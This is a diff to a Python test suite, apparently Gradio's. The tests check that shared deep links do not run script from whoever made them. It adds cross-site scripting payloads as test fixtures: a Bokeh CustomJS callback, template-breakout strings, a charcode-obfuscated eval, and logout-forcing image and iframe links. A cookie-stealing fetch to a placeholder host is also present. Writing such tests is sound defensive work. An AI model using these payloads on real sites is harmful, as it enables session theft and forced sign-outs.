@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import time
 from collections.abc import Iterator, Mapping
 from contextlib import suppress
@@ -19,6 +20,8 @@ from tests.support.app_server import AppServer
 API = "/gradio/gradio_api"
 LION = Path(gr.__file__).parent / "media_assets/images/lion.jpg"
 SCRIPT = "window.hit = true; fetch('ELSEWHERE/stolen?' + document.cookie);"
+CODED = f"eval(String.fromCharCode({','.join(str(ord(letter)) for letter in 'window.hit=true')}))"
+"""Without a character that HTML has to escape."""
 HANDLER = f'<img src=x onerror="{SCRIPT}">'
 SETTLED_SECONDS = 2.0
 
@@ -27,7 +30,17 @@ def chatting() -> gr.Blocks:
     with gr.Blocks() as blocks:
         document, picture = gr.JSON(visible=False), gr.File(visible=False)
         gr.DeepLinkButton("Share")
-        for name, block in (("chat", gr.Chatbot()), ("html", gr.HTML()), ("markdown", gr.Markdown())):
+        chart = gr.Plot()
+        config = {**chart.get_config(), "bokeh_version": "3.8.1"}
+        chart.get_config = lambda: {**config}  # type: ignore[method-assign,assignment]  # as where Bokeh is installed
+        blocks_of = {
+            "chat": gr.Chatbot(),
+            "html": gr.HTML(),
+            "template": gr.HTML(html_template="{{value}} {{{value}}} ${value}", css_template="a { top: {{value}} }"),
+            "markdown": gr.Markdown(),
+            "plot": chart,
+        }
+        for name, block in blocks_of.items():
             gr.Button(name).click(lambda value: value, document, block, api_name=f"show_{name}")
             gr.Button(f"{name} of its own").click(lambda value: value, block, block, api_name=f"repeat_{name}")
         gr.Button("picture").click(lambda path: path, picture, gr.Image(elem_id="shown"), api_name="show_picture")
@@ -70,9 +83,10 @@ def linked(person: Person, function: str, value: object) -> str | None:
 
 
 def is_untouched(person: Person, elsewhere: Elsewhere) -> bool:
-    """For some time nothing ran, and nothing went elsewhere."""
+    """For some time nothing ran, nothing went elsewhere, and nobody was signed out."""
     person.tab.wait_for_timeout(SETTLED_SECONDS * 1000)
-    return not elsewhere.asked and not person.tab.evaluate("() => window.hit")
+    is_in = person.context.request.get(f"{person.server.url}/user/me").ok
+    return is_in and not elsewhere.asked and not person.tab.evaluate("() => window.hit")
 
 
 # -- an address of the app's that leads to what others wrote ----------------------------------------------------------
@@ -147,7 +161,26 @@ def said(component: str, value: object, **props: object) -> list[Any]:
     return [{"role": "user", "content": [part]}]
 
 
+CUSTOM = {"type": "object", "name": "CustomJS", "id": "p2", "attributes": {"code": "SCRIPT"}}
+CHART = {
+    "type": "bokeh",
+    "plot": json.dumps(
+        {
+            "target_id": None,
+            "root_id": "p1",
+            "doc": {
+                "version": "3.8.1",
+                "title": "",
+                "roots": [{"type": "object", "name": "Div", "id": "p1", "attributes": {"text": "x"}}],
+                "callbacks": {"type": "map", "entries": [["document_ready", [CUSTOM]]]},
+            },
+            "version": "3.8.1",
+        }
+    ),
+}
 MADE: Mapping[str, tuple[str, Any]] = {
+    "a chart's script in a chat": ("chat", said("plot", CHART, bokeh_version="3.8.1")),
+    "a chart's script": ("plot", CHART),
     "markup in a component of a chat": ("chat", said("html", HANDLER)),
     "a script in a component of a chat": ("chat", said("html", "x", js_on_load=SCRIPT)),
     "a template in a component of a chat": ("chat", said("html", "x", html_template="${(() => { SCRIPT })()}")),
@@ -162,6 +195,14 @@ MADE: Mapping[str, tuple[str, Any]] = {
     "a frame": ("html", f"<iframe srcdoc='<script>{SCRIPT.replace(chr(39), chr(34))}</script>'></iframe>"),
     "properties": ("html", {"__type__": "update", "value": "x", "js_on_load": SCRIPT}),
     "a text with markup": ("markdown", HANDLER),
+    "a text for a template": ("template", "${(() => { SCRIPT })()}"),
+    "a text that ends a template": ("template", "`; SCRIPT //"),
+    "a text that ends a template, escaped": ("template", "\\`; SCRIPT //"),
+    "an escaped text for a template": ("template", "\\${(() => { SCRIPT })()}"),
+    "letters for a template": ("template", "${(() => { CODED })()}"),
+    "letters for a template, escaped": ("template", "\\${(() => { CODED })()}"),
+    "a picture that signs out": ("markdown", "![x](/logout?everywhere=1)"),
+    "a frame that signs out": ("html", "<iframe src='/logout?everywhere=1'></iframe>"),
 }
 
 
@@ -181,7 +222,7 @@ def test_a_deep_link_runs_nothing_of_whoever_made_it(
 
 def _addressed(value: Any, url: str) -> Any:
     if isinstance(value, str):
-        return value.replace("SCRIPT", SCRIPT).replace("ELSEWHERE", url)
+        return value.replace("SCRIPT", SCRIPT).replace("CODED", CODED).replace("ELSEWHERE", url)
     if isinstance(value, dict):
         return {name: _addressed(part, url) for name, part in value.items()}
     return [_addressed(part, url) for part in value] if isinstance(value, list) else value
